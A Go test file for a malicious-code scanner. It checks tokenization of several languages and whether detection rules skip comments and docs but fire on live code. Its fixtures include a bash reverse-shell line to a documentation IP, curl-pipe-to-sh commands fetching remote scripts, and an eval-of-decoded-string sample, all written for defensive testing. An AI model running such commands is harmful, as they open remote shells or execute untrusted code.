package codescan

import (
	"math/rand/v2"
	"strings"
	"testing"
)

var ctxName = map[context]string{ctxCode: "code", ctxString: "string", ctxComment: "comment"}

// TestTokenize checks the context of marked words: each case lists words
// of the source and the context each must be in.
func TestTokenize(t *testing.T) {
	cases := []struct {
		name string
		l    lang
		src  string
		want map[string]string
	}{
		{"js basics", langJS, "const a = 'STR1'; // CMT1\n/* CMT2 */ CODE1(\"STR2\")",
			map[string]string{"STR1": "string", "CMT1": "comment", "CMT2": "comment", "CODE1": "code", "STR2": "string"}},
		{"js template substitution is code", langJS, "x = `TPL1 ${ CODE1({a: 'STR1'}) } TPL2 ${ `NEST1 ${CODE2}` }` + CODE3",
			map[string]string{"TPL1": "string", "CODE1": "code", "STR1": "string", "TPL2": "string", "NEST1": "string", "CODE2": "code", "CODE3": "code"}},
		{"js regex literal vs division", langJS, "a = b / c / CODE1; r = /RE1 ' \" // x/g; CODE2 = 1; if (x) return /RE2/.test(y)",
			map[string]string{"CODE1": "code", "RE1": "string", "CODE2": "code", "RE2": "string"}},
		{"js regex with slash in class", langJS, "s.replace(/[/'\"]RE1/g, CODE1)",
			map[string]string{"RE1": "string", "CODE1": "code"}},
		{"js unterminated string ends at newline", langJS, "x = 'STR1\nCODE1()",
			map[string]string{"STR1": "string", "CODE1": "code"}},
		{"js hashbang", langJS, "#!/usr/bin/env node CMT1\nCODE1()",
			map[string]string{"CMT1": "comment", "CODE1": "code"}},
		{"js division after paren", langJS, "(a)/2; CODE1 / 'STR1'",
			map[string]string{"CODE1": "code", "STR1": "string"}},

		{"python", langPython, "x = 'STR1'  # CMT1\ny = r\"STR2\\\"STR3\" + f'STR4'\nCODE1()",
			map[string]string{"STR1": "string", "CMT1": "comment", "STR2": "string", "STR3": "string", "STR4": "string", "CODE1": "code"}},
		{"python docstrings are comments", langPython, "def f():\n    \"\"\"DOC1 eval(x)\"\"\"\n    x = \"\"\"STR1\"\"\"\n    CODE1()\n    r'''DOC2'''\n    y = (\n        '''STR2''')\n",
			map[string]string{"DOC1": "comment", "STR1": "string", "CODE1": "code", "DOC2": "comment", "STR2": "string"}},
		{"python f-string triple is a string", langPython, "f\"\"\"STR1\"\"\"\n", map[string]string{"STR1": "string"}},

		{"shell", langShell, "echo 'STR1' \"STR2 $x\" # CMT1\nCODE1 ${#arr} CODE2 a#b CODE3",
			map[string]string{"STR1": "string", "STR2": "string", "CMT1": "comment", "CODE1": "code", "CODE2": "code", "CODE3": "code"}},
		{"batch", langBatch, "@echo off\nREM CMT1\n:: CMT2\nset X=\"STR1\"\nCODE1 rem notcomment",
			map[string]string{"CMT1": "comment", "CMT2": "comment", "STR1": "string", "CODE1": "code", "notcomment": "code"}},
		{"powershell", langPowerShell, "$a = 'STR1''STR2' # CMT1\n<# CMT2 #> CODE1 \"STR3`\"STR4\"\n$h = @'\nHERE1\n'@\nCODE2",
			map[string]string{"STR1": "string", "STR2": "string", "CMT1": "comment", "CMT2": "comment", "CODE1": "code", "STR3": "string", "STR4": "string", "HERE1": "string", "CODE2": "code"}},
		{"ruby", langRuby, "x = 'STR1' # CMT1\ny = %q(STR2 (NEST1)) + %w[STR3]\n=begin\nCMT2\n=end\nCODE1 = <<~EOS\n  HERE1\nEOS\nCODE2(/RE1/)",
			map[string]string{"STR1": "string", "CMT1": "comment", "STR2": "string", "NEST1": "string", "STR3": "string", "CMT2": "comment", "CODE1": "code", "HERE1": "string", "CODE2": "code", "RE1": "string"}},
		{"ruby modulo is code", langRuby, "a = b % (CODE1)", map[string]string{"CODE1": "code"}},
		{"msbuild", langMSBuild, "<Project><!-- CMT1 <Exec Command=\"x\"/> --><Exec Command=\"STR1\" />CODE1</Project>",
			map[string]string{"CMT1": "comment", "STR1": "string", "CODE1": "code"}},
		{"rust", langRust, "let s = r#\"STR1 \" STR2\"#; // CMT1\n/* CMT2 /* NEST1 */ CMT3 */ CODE1('c', 'a: &'b str, \"STR3\")",
			map[string]string{"STR1": "string", "STR2": "string", "CMT1": "comment", "CMT2": "comment", "NEST1": "comment", "CMT3": "comment", "CODE1": "code", "STR3": "string"}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			d := []byte(c.src)
			spans := tokenize(c.l, d, nil)
			checkSpans(t, spans, len(d))
			for word, want := range c.want {
				i := strings.Index(c.src, word)
				if i < 0 {
					t.Fatalf("marker %s not in source", word)
				}
				if got := ctxName[contextAt(spans, i)]; got != want {
					t.Errorf("%s: got %s, want %s (spans %v)", word, got, want, spans)
				}
			}
		})
	}
}

// checkSpans asserts the tokenizer contract: sorted, non-overlapping,
// non-empty spans within the data.
func checkSpans(t testing.TB, spans []span, n int) {
	t.Helper()
	prev := int32(0)
	for i, s := range spans {
		if s.s < prev || s.e < s.s || int(s.e) > n {
			t.Fatalf("span %d %v out of order or bounds (prev end %d, len %d)", i, s, prev, n)
		}
		if s.k != ctxString && s.k != ctxComment {
			t.Fatalf("span %d has kind %d", i, s.k)
		}
		prev = s.e
	}
}

// TestCommentsAndDocsDoNotFire: the same dangerous text in a comment, a
// Python docstring and a README fires nothing; in code it does.
func TestCommentsAndDocsDoNotFire(t *testing.T) {
	rs := DefaultRules()
	quiet := map[string]string{
		"index.js":  "// eval(atob('Y29uc29sZS5sb2coMSk='))\n/* curl -s https://example.invalid/x | sh */\nmodule.exports = 1;\n",
		"mod.py":    "def f():\n    \"\"\"Never exec(base64.b64decode(data)).\"\"\"\n    return 1\n",
		"README.md": "Run `curl https://example.invalid/i.sh | sh` or `eval(atob(x))`; tokens live in ~/.npmrc.\n",
		"notes.txt": "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
	}
	for name, src := range quiet {
		tr := treeOf(map[string]string{name: src})
		if got := Scan(tr, rs); len(got) > 0 {
			t.Errorf("%s: want no findings, got%s", name, describe(got))
		}
	}
	loud := treeOf(map[string]string{"index.js": "eval(atob('Y29uc29sZS5sb2coMSk='));\n"})
	if got := Scan(loud, rs); len(got) == 0 || got[0].Rule != "eval-decoded" {
		t.Errorf("code: want eval-decoded, got%s", describe(got))
	}
}

// TestSpanCursor: the cursor answers as contextAt does, for positions
// that mostly increase with small steps back, and for random jumps.
func TestSpanCursor(t *testing.T) {
	rnd := rand.New(rand.NewPCG(11, 12))
	kinds := []context{ctxString, ctxComment}
	for round := 0; round < 500; round++ {
		n := 1 + rnd.IntN(300)
		var spans []span
		for pos := rnd.IntN(3); pos < n; {
			e := min(n, pos+1+rnd.IntN(10))
			spans = append(spans, span{int32(pos), int32(e), kinds[rnd.IntN(2)]})
			pos = e + rnd.IntN(4)
		}
		cur := spanCursor{spans: spans}
		p := 0
		for step := 0; step < 200; step++ {
			switch rnd.IntN(4) {
			case 0:
				p = rnd.IntN(n + 1)
			case 1:
				p = max(0, p-rnd.IntN(12))
			default:
				p = min(n, p+rnd.IntN(6))
			}
			if got, want := cur.at(p), contextAt(spans, p); got != want {
				t.Fatalf("spans %v, position %d: got %d, want %d", spans, p, got, want)
			}
		}
	}
}
